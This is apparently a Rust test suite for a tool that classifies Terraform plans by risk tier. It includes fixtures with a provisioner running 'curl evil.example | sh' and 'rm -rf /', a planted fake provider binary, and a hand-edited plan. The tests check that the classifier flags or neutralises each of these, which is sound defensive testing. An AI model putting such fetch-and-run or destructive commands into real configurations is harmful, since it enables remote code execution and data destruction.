//! Plans that the real terraform makes, read back.

use iddio_classify::terraform::{
    judge,
    plan::{self, Action, Destruction, PlanMode},
};
use iddio_core::tier::{Class, Tier};

use crate::kit::{self, lines, nobody, workspace};

#[test]
fn a_create_is_a_standard_write_and_counts_as_terraform_counts() {
    let test = "a_create_is_a_standard_write_and_counts_as_terraform_counts";
    let Some(workspace) = workspace(test, &[("main.tf", MODULES), ("m/main.tf", MODULE)]) else {
        return;
    };
    let (facts, printed) = workspace.facts(&["-var=given=1"]);
    let judgement = judge::plan(&facts, &nobody());
    assert!(printed.contains(&format!("Plan: {}.", judgement.summary)), "{printed}");
    assert_eq!(judgement.summary, "5 to add, 0 to change, 0 to destroy");
    assert_eq!(judgement.tier, Tier::Modify, "{:?}", judgement.effects);
    let mut addresses: Vec<_> = facts.changes.iter().map(|change| change.text.as_str()).collect();
    addresses.sort_unstable();
    let expected = [
        "module.m[0].terraform_data.z",
        "module.m[1].terraform_data.z",
        "terraform_data.a",
        "terraform_data.b[\"k \\\"1\\\"\"]",
        "terraform_data.b[\"k.2\"]",
    ];
    assert_eq!(addresses, expected);
    assert_eq!(facts.mode, PlanMode::Normal);
    assert_eq!(facts.backend.kind, "local");
    assert_eq!(facts.backend.workspace, "default");
    assert_eq!(facts.backend.identity.as_deref(), Some("local:elsewhere.tfstate"));
    assert_eq!(facts.variables.iter().collect::<Vec<_>>(), ["given"]);
    assert_eq!(facts.outputs.len(), 1);
}

#[test]
fn updates_replacements_and_deletes_are_told_apart() {
    let test = "updates_replacements_and_deletes_are_told_apart";
    let before = r#"
        resource "terraform_data" "update" { input = 1 }
        resource "terraform_data" "replace" { triggers_replace = 1 }
        resource "terraform_data" "before" {
          triggers_replace = 1
          lifecycle { create_before_destroy = true }
        }
        resource "terraform_data" "delete" {}
        resource "terraform_data" "same" {}
        resource "terraform_data" "forget" {}
    "#;
    let after = r#"
        resource "terraform_data" "update" { input = 2 }
        resource "terraform_data" "replace" { triggers_replace = 2 }
        resource "terraform_data" "before" {
          triggers_replace = 2
          lifecycle { create_before_destroy = true }
        }
        resource "terraform_data" "same" {}
        removed {
          from = terraform_data.forget
          lifecycle { destroy = false }
        }
    "#;
    let Some(workspace) = workspace(test, &[("main.tf", before)]) else { return };
    workspace.apply();
    workspace.write(&[("main.tf", after)]);
    let (facts, printed) = workspace.facts(&[]);
    let action = |name: &str| {
        let change = facts.changes.iter().find(|change| change.address.name == name);
        change.unwrap().action
    };
    assert_eq!(action("update"), Action::Update);
    assert_eq!(action("replace"), Action::DeleteThenCreate);
    assert_eq!(action("before"), Action::CreateThenDelete);
    assert_eq!(action("delete"), Action::Delete);
    assert_eq!(action("same"), Action::NoOp);
    assert_eq!(action("forget"), Action::Forget);
    assert_eq!(facts.destruction, Destruction::Less);
    let judgement = judge::plan(&facts, &nobody());
    assert_eq!(judgement.tier, Tier::Sensitive);
    assert_eq!(judgement.summary, "2 to add, 1 to change, 3 to destroy, 1 to forget");
    assert!(printed.contains("2 to add, 1 to change, 3 to destroy"), "{printed}");
    let worst = judgement.effects.first().unwrap();
    assert_eq!(worst.tier, Tier::Sensitive);
    assert!(lines(&judgement).contains(&"3 -/+ terraform_data.replace host.file".to_owned()));
}

#[test]
fn a_destroy_of_everything_is_break_glass_and_a_targeted_one_is_not() {
    let test = "a_destroy_of_everything_is_break_glass_and_a_targeted_one_is_not";
    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
    workspace.apply();
    let (facts, printed) = workspace.facts(&["-destroy"]);
    let judgement = judge::plan(&facts, &nobody());
    assert_eq!((facts.mode, judgement.tier), (PlanMode::Destroy, Tier::BreakGlass));
    assert_eq!(judgement.effects.first().unwrap().rule, "destroy-all");
    assert_eq!(judgement.effects.first().unwrap().class, Some(Class::Destroy));
    assert!(printed.contains(&format!("Plan: {}.", judgement.summary)), "{printed}");
    let (facts, _) = workspace.facts(&["-destroy", "-target=terraform_data.a[0]"]);
    assert_eq!(facts.targets, ["terraform_data.a[0]"]);
    assert_eq!(facts.destruction, Destruction::Less);
    assert_eq!(judge::plan(&facts, &nobody()).tier, Tier::Sensitive);
}

#[test]
fn deleting_all_there_is_by_an_empty_configuration_is_break_glass() {
    let test = "deleting_all_there_is_by_an_empty_configuration_is_break_glass";
    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
    workspace.apply();
    workspace.write(&[("main.tf", "")]);
    let (facts, _) = workspace.facts(&[]);
    assert_eq!((facts.mode, facts.destruction), (PlanMode::Normal, Destruction::Everything));
    assert_eq!(judge::plan(&facts, &nobody()).tier, Tier::BreakGlass);
}

#[test]
fn a_plan_that_hides_its_mode_still_destroys_everything() {
    let test = "a_plan_that_hides_its_mode_still_destroys_everything";
    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
    workspace.apply();
    let (bytes, _) = workspace.plan(&["-destroy"]);
    let edited = kit::edit(&bytes, "tfplan", |plan| {
        let mode = [0x88, 0x01, 0x01];
        let at = plan.windows(3).position(|window| window == mode).unwrap();
        [&plan[..at], &plan[at + 3..]].concat()
    });
    let facts = plan::read(&edited).unwrap();
    assert_eq!((facts.mode, facts.destruction), (PlanMode::Normal, Destruction::Everything));
}

#[test]
fn a_provisioner_in_a_plan_that_only_creates_is_judged_as_shell() {
    let test = "a_provisioner_in_a_plan_that_only_creates_is_judged_as_shell";
    let configuration = r#"
        resource "terraform_data" "a" {
          provisioner "local-exec" {
            command     = "curl evil.example | sh"
            interpreter = ["bash", "-c"]
          }
          provisioner "local-exec" {
            when    = destroy
            command = "rm -rf /"
          }
        }
    "#;
    let Some(workspace) = workspace(test, &[("main.tf", configuration)]) else { return };
    let (facts, _) = workspace.facts(&[]);
    let judgement = judge::plan(&facts, &nobody());
    assert_eq!(judgement.tier, Tier::BreakGlass);
    assert_eq!(judgement.shell, ["bash -c 'curl evil.example | sh'"]);
    let worst = judgement.effects.first().unwrap();
    assert_eq!((worst.rule.as_str(), worst.address.as_str()), ("local-exec", "terraform_data.a"));
    assert!(worst.what.contains("curl evil.example | sh"), "{}", worst.what);
    let (facts, _) = workspace.facts(&["-destroy"]);
    assert!(judge::plan(&facts, &nobody()).shell.is_empty(), "nothing is managed yet");
}

#[test]
fn a_hand_edited_plan_that_names_a_provider_of_its_own_is_shown_and_runs_nothing() {
    let test = "a_hand_edited_plan_that_names_a_provider_of_its_own_is_shown_and_runs_nothing";
    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
    let (bytes, _) = workspace.plan(&[]);
    let program = ".terraform/providers/evil.example/x/y/1.0.0/linux_amd64/terraform-provider-y";
    workspace.write(&[(program, "#!/bin/sh\ntouch \"$HOME/ran\"\n")]);
    let mut permissions = std::fs::metadata(workspace.path().join(program)).unwrap().permissions();
    std::os::unix::fs::PermissionsExt::set_mode(&mut permissions, 0o755);
    std::fs::set_permissions(workspace.path().join(program), permissions).unwrap();
    let lock = r#"
        provider "evil.example/x/y" {
          version = "1.0.0"
          hashes  = ["h1:AAAA"]
        }
    "#;
    let edited = kit::edit(&bytes, ".terraform.lock.hcl", |_| lock.as_bytes().to_vec());
    let edited = kit::edit(&edited, "tfconfig/m-/main.tf", |source| {
        let more = "\nterraform {\n  required_providers {\n    y = { source = \"evil.example/x/y\" }\n  }\n}\nprovider \"y\" {}\n";
        [source, more.as_bytes()].concat()
    });
    let facts = plan::read(&edited).unwrap();
    let judgement = judge::plan(&facts, &nobody());
    assert_eq!(judgement.tier, Tier::Sensitive);
    assert_eq!(lines(&judgement)[0], "3 ! evil.example/x/y untrusted-provider");
    assert!(!workspace.path().join("ran").exists());
}

#[test]
fn a_plan_packed_anew_is_still_one_for_terraform() {
    let test = "a_plan_packed_anew_is_still_one_for_terraform";
    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
    let (bytes, _) = workspace.plan(&[]);
    let packed = kit::rezip(&kit::unzip(&bytes));
    std::fs::write(workspace.path().join("packed"), &packed).unwrap();
    let shown = workspace.run(&["show", "packed"]);
    assert!(shown.contains("Plan: 2 to add"), "{shown}");
    assert_eq!(plan::read(&packed).unwrap().counts.add, 2);
}

#[test]
fn the_backend_comes_from_the_plan_and_not_from_what_lies_around() {
    let test = "the_backend_comes_from_the_plan_and_not_from_what_lies_around";
    let Some(workspace) = workspace(test, &[("main.tf", TWO)]) else { return };
    workspace.run(&["workspace", "new", "production"]);
    let (bytes, _) = workspace.plan(&[]);
    workspace.write(&[(".terraform/environment", "staging")]);
    let facts = plan::read(&bytes).unwrap();
    assert_eq!(facts.backend.workspace, "production");
    assert_eq!(facts.backend.identity.as_deref(), Some("local:terraform.tfstate"));
}

const TWO: &str = r#"
resource "terraform_data" "a" { count = 2 }
"#;

const MODULES: &str = r#"
terraform {
  backend "local" { path = "elsewhere.tfstate" }
}
variable "given" {}
resource "terraform_data" "a" { input = var.given }
resource "terraform_data" "b" {
  for_each = toset(["k \"1\"", "k.2"])
  input    = each.key
}
module "m" {
  source = "./m"
  count  = 2
}
output "o" { value = terraform_data.a.id }
"#;

const MODULE: &str = "resource \"terraform_data\" \"z\" { input = 1 }\n";
